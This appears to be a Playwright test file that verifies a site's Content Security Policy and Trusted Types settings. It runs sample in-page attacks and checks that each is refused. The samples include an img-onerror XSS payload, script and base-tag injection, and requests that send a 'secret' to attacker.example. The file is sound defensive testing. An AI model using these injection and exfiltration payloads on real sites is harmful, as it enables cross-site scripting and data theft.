import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "playwright/test";

/** Attacks from within a page, by the directive that must refuse each. */
const attacks: Record<string, Record<string, () => void>> = {
  "require-trusted-types-for": {
    "a script in the page": () => {
      const script = document.createElement("script");
      script.append("document.title = 'taken'");
      document.body.append(script);
    },
    "a script from another host": () => {
      document.createElement("script").src = "https://attacker.example/a.js";
    },
    "markup made of text": () => {
      document.body.innerHTML = "<img src=x onerror=\"document.title='taken'\">";
    },
    "a handler in an attribute": () =>
      document.body.setAttribute("onclick", "document.title = 'taken'"),
    "code made of text": () => globalThis.setTimeout("document.title = 'taken'"),
  },
  "trusted-types": {
    "a policy of its own for trusted text": () =>
      void globalThis.trustedTypes?.createPolicy("attacker", { createScriptURL: (url) => url }),
  },
  "style-src-elem": {
    "styles in the page": () => {
      const style = document.createElement("style");
      style.append("body { display: none }");
      document.head.append(style);
    },
  },
  "style-src-attr": {
    "styles in an attribute": () => document.body.setAttribute("style", "display: none"),
  },
  "img-src": {
    "a picture that carries data out": () => {
      new Image().src = "https://attacker.example/?secret";
    },
  },
  "connect-src": {
    "a request that carries data out": () =>
      void fetch("https://attacker.example/").catch(() => undefined),
  },
  "frame-src": {
    // The map is on other pages.
    "a frame of the map's host": () => {
      const src = "https://maps.harbor-lights.internal/";
      document.body.append(Object.assign(document.createElement("iframe"), { src }));
    },
  },
  "base-uri": {
    "another base for links": () => {
      const href = "https://attacker.example/";
      document.head.append(Object.assign(document.createElement("base"), { href }));
    },
  },
};

/** The directives that refused something on the page since it was opened. */
async function refusedBy(page: Page, attack: () => void): Promise<string[]> {
  await page.evaluate(() => {
    const refused: string[] = [];
    Object.assign(globalThis, { refused });
    addEventListener("securitypolicyviolation", ({ effectiveDirective, disposition }) =>
      refused.push(`${effectiveDirective} ${disposition}`),
    );
  });
  // Trusted Types refuse by an exception, the rest by doing nothing.
  await page.evaluate(attack).catch(() => undefined);
  const read = () => page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
  await expect.poll(read).not.toEqual([]);
  return read();
}

const site = () => process.env["SITE_ADDRESS"] ?? "";

for (const [directive, ways] of Object.entries(attacks))
  for (const [name, attack] of Object.entries(ways))
    test(`${name} is refused`, { tag: "@long" }, async ({ page }) => {
      await page.route(
        (url) => !url.href.startsWith(site()),
        (route) => route.abort(),
      );
      await page.goto(`${site()}/about`);
      const title = await page.title();
      expect(await refusedBy(page, attack)).toEqual([`${directive} enforce`]);
      expect(await page.title()).toBe(title);
      await expect(page.getByRole("main")).toBeVisible();
    });

test("no page can be framed, not even the 404 page", { tag: "@long" }, async ({ page }) => {
  const frames = ["/", "/about", "/no-such-page"]
    .map((path) => `<iframe src="${site()}${path}"></iframe>`)
    .join("");
  const other = createServer((_, response) =>
    response.setHeader("Content-Type", "text/html").end(frames),
  );
  await new Promise<void>((listening) => other.listen(0, "127.0.0.1", listening));
  try {
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    for (const frame of page.frames().slice(1))
      expect(await frame.getByRole("main").count()).toBe(0);
    expect(page.frames()).toHaveLength(4);
  } finally {
    other.closeAllConnections();
    other.close();
  }
});
